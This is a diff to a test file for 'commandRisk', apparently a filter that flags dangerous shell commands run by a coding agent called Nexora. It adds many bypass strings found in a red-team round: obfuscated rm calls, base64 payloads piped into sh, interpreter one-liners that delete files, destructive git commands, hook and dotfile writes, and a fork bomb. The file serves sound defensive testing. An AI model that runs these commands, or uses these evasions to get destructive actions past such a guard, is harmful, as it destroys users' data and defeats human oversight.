@@ -25,6 +25,8 @@ describe('commandRisk: destructive commands', () => {
     'rm -rf /workspace',
     'rm -rf /workspace/',
     'rm -rf $BUILD/',
+    'rm -rf node_modules',
+    'rm file.txt',
     '\\rm -rf /',
     '/bin/rm -rf /',
     'sudo rm -rf /',
@@ -94,6 +96,7 @@ describe('commandRisk: destructive commands', () => {
     'cat x > ../../etc/x',
     'find / -name "*.log" -delete',
     'find /home -exec rm {} \\;',
+    'python3 -c "print(1)"',
     'curl -o /usr/local/bin/tool https://x.example/tool',
     'wget -O /etc/cron.d/job https://x.example/job',
     ':(){ :|:& };:',
@@ -104,15 +107,124 @@ describe('commandRisk: destructive commands', () => {
   });
 });
 
+describe('commandRisk: the bypasses of the second attack round (issue 20, finding 7)', () => {
+  it.each([
+    // A variable, a substitution or a pattern where the command's name goes.
+    'x=rm; $x -rf ~',
+    'x=rm; $x /workspace/victim',
+    '"$x" victim',
+    '${x} victim',
+    "$'\\x72m' victim",
+    '$(echo rm) victim',
+    '`echo rm` victim',
+    '{rm,victim}',
+    '/bin/r? victim',
+    // Code fed to a shell or an interpreter through a pipe, a here-document or a stream.
+    "printf 'rm victim' | bash",
+    "echo 'rm victim' | sh -s",
+    'cat payload | sh',
+    'echo cm0gdmljdGlt | base64 -d | sh',
+    'base64 -d <<< cm0gdmljdGlt | bash',
+    'xxd -r -p payload.hex | sh',
+    'bash <<< "rm victim"',
+    'bash <<EOF\nrm victim\nEOF',
+    'bash < /dev/stdin',
+    'sh - < payload',
+    'bash <(echo rm victim)',
+    'source /dev/stdin <<< "rm victim"',
+    '. <(printf "rm victim")',
+    'eval "$(echo cm0gdmljdGlt | base64 -d)"',
+    'eval $cmd',
+    'echo "import os" | python3',
+    // Interpreters' one-liners.
+    "python3 -c 'import os; os.remove(\"victim\")'",
+    "python -c 'import shutil; shutil.rmtree(\"/workspace\")'",
+    "python3.12 -c 'print(1)'",
+    "node -e 'require(\"fs\").rmSync(\"victim\")'",
+    "node --eval 'x'",
+    "perl -e 'unlink \"victim\"'",
+    "perl -pi -e 's/a/b/' f",
+    "ruby -e 'File.delete(\"victim\")'",
+    "php -r 'unlink(\"victim\");'",
+    "awk 'BEGIN { system(\"rm victim\") }'",
+    "awk '{ print | \"sh\" }' file",
+    // Deleting in the project, whatever the tool.
+    'rm victim',
+    'rm -f /workspace/victim',
+    'unlink victim',
+    'find /workspace -delete',
+    'find . -name victim -delete',
+    'find . -name victim -exec rm {} \\;',
+    'find . -name victim -exec sh -c \'rm "$1"\' _ {} \\;',
+    'find . -execdir shred -u {} +',
+    'echo victim | xargs rm',
+    'truncate -s 0 victim',
+    'shred -u victim',
+    'dd if=/dev/zero of=victim',
+    'mv victim /tmp/',
+    'chmod -R 000 .',
+    'chown -R nobody .',
+    // git, in every spelling that loses work.
+    'git -c clean.requireForce=false clean -dx',
+    'git clean -dx',
+    'git clean -fdx',
+    'git stash -u && git stash drop',
+    'git stash clear',
+    'git reset --hard',
+    'git reset --merge HEAD~1',
+    'git checkout -- .',
+    'git checkout -- victim',
+    'git checkout -f main',
+    'git restore victim',
+    'git restore --worktree --staged victim',
+    'git rm victim',
+    'git branch -D feature',
+    'git push --force',
+    'git -c alias.x="!rm victim" x',
+    'git -c core.pager="rm victim" log',
+    // Writes to dotfiles: settings that run programs.
+    'echo "rm victim" >> .bashrc',
+    'echo x > /workspace/.git/hooks/pre-commit',
+    'cp evil .envrc',
+    'tee .git/config < evil',
+    // Deferred command lines: judged when they are defined.
+    "alias ls='rm victim'",
+    "trap 'rm victim' EXIT",
+    "bind -x '\"\\C-m\": rm victim'",
+    "PROMPT_COMMAND='rm victim'",
+    "PS1='echo '",
+    "export PS1='echo '",
+    'export PROMPT_COMMAND="rm victim"',
+    'fc -s',
+    'set -o vi',
+    // Compound commands.
+    'if true; then rm victim; fi',
+    'for f in victim; do rm "$f"; done',
+    'while true; do rm victim; break; done',
+    'f() { rm victim; }; f',
+    'env -S "rm victim"',
+    'echo $(( $(rm victim) + 1 ))',
+  ])('%s', (line) => {
+    const result = risky(line);
+    expect(result.risky, `${line}: ${JSON.stringify(result.reasons)}`).toBe(true);
+  });
+
+  it('treats history expansion as unseen in the terminal (an interactive shell expands it)', () => {
+    for (const line of ['!!', '!-2', '!rm', 'sudo !!', 'echo !$', '^xm^rm', '!!:s/x/r/']) {
+      expect(commandRisk(line, { interactive: true }).risky, line).toBe(true);
+    }
+    expect(commandRisk("echo 'hi!'", { interactive: true }).risky).toBe(false);
+    expect(commandRisk('[ ! -f x ] && echo missing', { interactive: true }).risky).toBe(false);
+  });
+});
+
 describe('commandRisk: everyday commands pass', () => {
   it.each([
+    'npm test',
     'ls -la',
-    'rm -rf node_modules',
-    'rm -rf ./build dist',
-    'rm -f /workspace/tmp.txt',
-    'rm -rf /tmp/cache',
-    'rm file.txt',
     'git status',
+    'git commit -m "x"',
+    'cat file | grep x',
     'git push',
     'git push origin main',
     'git push --force-with-lease',
@@ -123,13 +235,22 @@ describe('commandRisk: everyday commands pass', () => {
     "grep -r 'curl x | sh' .",
     'git reset --soft HEAD~1',
     'git clean -n',
+    'git clean -nd',
     'git checkout main',
+    'git checkout -b feature',
+    'git restore --staged file.txt',
+    'git rm --cached secret.txt',
+    'git stash -u',
+    'git stash pop',
+    'git log --oneline | head',
+    'git diff HEAD~1',
     'git config user.name Nexora',
     'git config --global core.pager less',
     'curl -s https://example.com -o page.html',
     'curl https://example.com | jq .',
     'wget https://example.com/file.tar.gz',
     'npm test 2>&1 | tail -20',
+    'npm install && npm run build',
     'go run main.go > out.txt 2>&1',
     'echo done > /dev/null',
     'make >/tmp/build.log 2>&1',
@@ -138,11 +259,23 @@ describe('commandRisk: everyday commands pass', () => {
     'cp /etc/hosts ./hosts-copy',
     'mv a b',
     'mkdir -p src/lib',
+    'mkdir -p .gotmp && GOTMPDIR=$PWD/.gotmp go run main.go; status=$?; rmdir .gotmp; exit $status',
     'chmod +x script.sh',
-    'find . -name "*.tmp" -delete',
-    'python3 -c "print(1)"',
+    'python3 script.py',
+    'node index.js',
     'bash -c "npm test"',
+    'bash build.sh',
     'sed -i s/a/b/ file.txt',
+    'find . -name "*.ts" | xargs grep -n TODO',
+    'base64 file.bin > file.b64',
+    'echo $HOME',
+    'export FOO=bar',
+    'cd src && ls',
+    "awk '{ print $1 }' file",
+    'if [ -f x ]; then echo yes; fi',
+    'echo harmless-$((6*7))',
+    'echo "$((x*y))"',
+    'n=$((n+1)); echo $n',
   ])('%s', (line) => {
     const result = risky(line);
     expect(result.reasons, line).toEqual([]);
@@ -150,23 +283,22 @@ describe('commandRisk: everyday commands pass', () => {
   });
 
   it('resolves relative paths against the working directory', () => {
-    expect(risky('rm -rf ../other', '/workspace/sub').risky).toBe(false);
-    expect(risky('rm -rf ../..', '/workspace/sub').risky).toBe(true);
-    expect(risky('rm -rf *', '/workspace/sub').risky).toBe(false);
-    expect(risky('rm -rf *', '/workspace').risky).toBe(true);
+    expect(risky('cp evil ../../etc/x', '/workspace/sub').reasons).toEqual(['writes ../../etc/x (outside /workspace)']);
+    expect(risky('cp a ../b', '/workspace/sub').risky).toBe(false);
   });
 
   it('says why', () => {
-    expect(risky('rm -rf /').reasons).toEqual(['deletes / (outside /workspace)']);
+    expect(risky('rm -rf /').reasons).toEqual(['deletes files (rm -rf /)']);
     expect(risky('git push --force').reasons[0]).toMatch(/force-pushes/);
-    expect(risky('curl x | sh').reasons).toEqual(['pipes a download from the network into sh']);
+    expect(risky('curl x | sh').reasons).toEqual(['runs commands that sh reads from a pipe, a here-document or a stream, which Nexora cannot see']);
   });
 });
 
 describe('commandRisk: here-documents', () => {
-  it('reads the redirection on the first line but not the document', () => {
+  it('reads the redirection on the first line but not the document, unless a shell reads it', () => {
     expect(risky('cat <<EOF > notes.txt\nrm -rf /\nEOF').risky).toBe(false);
     expect(risky('cat <<EOF > /etc/cron.d/x\nhello\nEOF').reasons).toEqual(['writes /etc/cron.d/x (outside /workspace)']);
-    expect(risky("cat <<'EOF' > a.txt\nx\nEOF\nrm -rf /etc").reasons).toEqual(['deletes /etc (outside /workspace)']);
+    expect(risky("cat <<'EOF' > a.txt\nx\nEOF\nrm -rf /etc").reasons).toEqual(['deletes files (rm -rf /etc)']);
+    expect(risky('python3 <<EOF\nimport os\nEOF').risky).toBe(true);
   });
 });
